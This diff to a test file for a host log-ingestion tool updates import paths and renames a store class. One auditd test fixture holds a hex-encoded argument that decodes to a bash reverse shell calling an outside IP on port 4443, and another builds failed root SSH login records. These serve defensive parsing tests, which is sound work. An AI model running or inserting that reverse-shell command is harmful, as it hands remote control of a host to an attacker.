@@ -2,13 +2,14 @@
 
 import json
 
-from hostwarden.collect.chunks import Chunk
+from hostwarden.core.chunks import Chunk
 from hostwarden.normalize.auditd import AuditdParser, parse_fields
 from hostwarden.normalize.base import ParseContext, RawLine
 from hostwarden.normalize.journald import JournaldParser
 from hostwarden.normalize.jsonl import JsonLinesParser
-from hostwarden.normalize.pipeline import ingest_chunks, sniff
-from hostwarden.store.hot import HotStore
+from hostwarden.normalize.registry import sniff
+from hostwarden.pipelines.ingest import ingest_chunks
+from hostwarden.store.eventstore import EventStore
 
 EXECVE = """type=SYSCALL msg=audit(1795778020.120:4021): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=5201 pid=5290 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=42 comm="bash" exe="/usr/bin/bash" key="exec"
 type=EXECVE msg=audit(1795778020.120:4021): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F3434343320303E2631
@@ -83,7 +84,7 @@ def test_journald_cursor_makes_rereads_idempotent(tmp_path):
                            "SYSLOG_IDENTIFIER": "sshd", "_PID": "7", "_HOSTNAME": "h",
                            "MESSAGE": f"Failed password for root from 203.0.113.{i} port 22 ssh2"}) for i in range(5)]
     data = ("\n".join(records) + "\n").encode()
-    with HotStore(tmp_path) as store:
+    with EventStore(tmp_path) as store:
         ingest_chunks(store, [Chunk("journald", 0, data)])
         # journalctl --after-cursor re-sends the last two records at new offsets after a crash
         again = ingest_chunks(store, [Chunk("journald", 0, ("\n".join(records[3:]) + "\n").encode())])
